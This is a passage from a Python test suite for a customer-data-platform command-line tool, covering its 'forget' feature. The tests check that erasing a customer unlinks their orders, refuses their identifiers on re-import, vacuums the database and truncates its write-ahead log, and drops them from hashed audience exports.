    assert query(demo / "cdp.db", "SELECT count(*) FROM customers WHERE phone = '13800138000'")
    code, shown = answer("y")
    assert code == 0 and "Forgotten: " in shown
    assert not query(
        demo / "cdp.db", "SELECT count(*) FROM customers WHERE member_no = 'M0000001'"
    )[0][0]


# ---------------------------------------------------------------------------------------------
# Forgetting: small cases


def test_records_of_others_that_name_them_go_too_and_the_others_stay_whole(run, project, tmp_path):
    db = tmp_path / "cdp.db"
    m1, m2 = one_id_of(tmp_path, "M1"), one_id_of(tmp_path, "M2")
    # O2 is M2's order written with M1's phone: the guard refused that link.
    assert query(db, "SELECT count(*) FROM refused_links")[0][0] == 1
    result = json.loads(ok(run("forget", m1, "--yes", "--json")).stdout)
    assert result["other_customers"] == [m2]
    assert query(db, "SELECT identity_key, phone, member_no, amount FROM orders "
                 "WHERE order_id = 'O2'") == [(None, None, None, 50.0)]  # fmt: skip
    ok(run("resolve"))
    assert one_id_of(tmp_path, "M2") == m2
    [(orders,)] = query(db, "SELECT count(*) FROM profile_orders WHERE one_id = ?", m2)
    assert orders == 1  # O3; O2 named M1 and lost its link
    assert b"13800000001" not in store_bytes(tmp_path)
    assert "给娜娜".encode() not in store_bytes(tmp_path)  # unmapped item keys are dropped


def test_ingest_refuses_a_forgotten_identifier_in_any_written_form(run, write, project, tmp_path):
    m1 = one_id_of(tmp_path, "M1")
    ok(run("forget", m1, "--yes"))
    write("again.csv", CRM_HEADER + "M7,娜娜,+86 138-0000-0001,,武汉,,\n"
          ",无编号,13800000001,,,,\nM8,王五,13800000008,,上海,,\n")  # fmt: skip
    result = json.loads(ok(run("ingest", "again.csv", "-s", "crm", "--json")).stdout)
    assert result[0]["reject_reasons"] == {"forgotten": 1, "missing_key": 1}
    assert result[0]["inserted"] == 1
    rows = query(tmp_path / "cdp.db", "SELECT problem, reason, raw FROM rejects "
                 "WHERE batch_id = ? ORDER BY line", result[0]["batch_id"])  # fmt: skip
    withheld = "(withheld: the row carries an identifier of a forgotten person)"
    assert rows == [("forgotten", "carries a forgotten phone", withheld),
                    ("missing_key", "missing key member", withheld)]  # fmt: skip
    assert b"13800000001" not in store_bytes(tmp_path)


def test_forget_vacuums_and_empties_the_wal_before_the_store_is_closed(run, project, tmp_path):
    """While the store is still open, so no checkpoint on close can be what cleaned it."""
    config = load_config(tmp_path / "cdp.yaml")
    db = open_store(config.store)
    try:
        result = forget(db, config, find_target(db, config, Lookup(phone="13800000001")))
        assert (result.vacuumed, result.wal_truncated) == (True, True)
        assert db.conn.execute("PRAGMA freelist_count").fetchone() == (0,)
        assert (tmp_path / "cdp.db-wal").stat().st_size == 0
        assert b"13800000001" not in (tmp_path / "cdp.db").read_bytes()
    finally:
        db.close()


def test_a_hashed_demo_audience_leaves_out_a_forgotten_customer(demo):
    ok(cdp("segment", "winback", "--export", "before.csv", "--hashed"))
    ok(cdp("forget", "--phone", "13647922623", "--yes"))
    ok(cdp("segment", "winback", "--export", "after.csv", "--hashed", "--layout", "meta"))
    before, after = csv_rows(demo / "before.csv"), csv_rows(demo / "after.csv")
    assert [sha("qilang0056@outlook.com"), sha("+8613647922623")] in before
    assert len(after) == len(before) - 1
    assert sha("qilang0056@outlook.com") not in {cell for row in after for cell in row}
